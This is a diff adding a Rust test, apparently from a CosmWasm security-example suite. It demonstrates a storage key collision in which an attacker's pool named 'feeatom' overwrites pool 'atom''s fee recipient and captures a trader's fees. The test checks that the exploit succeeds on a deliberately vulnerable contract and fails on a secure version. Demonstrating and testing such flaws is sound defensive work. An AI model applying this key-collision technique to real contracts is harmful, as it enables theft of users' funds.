@@ -0,0 +1,61 @@
+//! Registering a pool whose owner key is another pool's fee-recipient key
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{coins, Empty};
+use cw_multi_test::{Contract, ContractWrapper};
+
+use crate::contracts::key_collision::{
+    execute, instantiate, query, secure, ExecuteMsg, InstantiateMsg,
+};
+use crate::{ExploitSpec, Harness, USD};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "key_collision",
+    description: "Pool \"feeatom\" overwrites the fee recipient of pool \"atom\"",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "did not reach the attacker",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (attacker, victim) = (h.attacker.clone(), h.victim.clone());
+    let trader = h.account("trader");
+    h.fund(&trader, &coins(1_000, USD));
+
+    let registry = h.deploy(code(), &InstantiateMsg {}, &[], "registry")?;
+
+    let create = |name: &str| ExecuteMsg::CreatePool {
+        name: name.to_string(),
+    };
+    h.execute(&victim, &registry, &create("atom"), &[])?;
+    h.execute(&attacker, &registry, &create("feeatom"), &[])?;
+
+    let before = h.balance(&attacker, USD);
+    h.execute(
+        &trader,
+        &registry,
+        &ExecuteMsg::PayFees {
+            pool: "atom".to_string(),
+        },
+        &coins(1_000, USD),
+    )?;
+
+    ensure!(
+        h.balance(&attacker, USD) == before + 1_000,
+        "fees for pool \"atom\" did not reach the attacker"
+    );
+    Ok(())
+}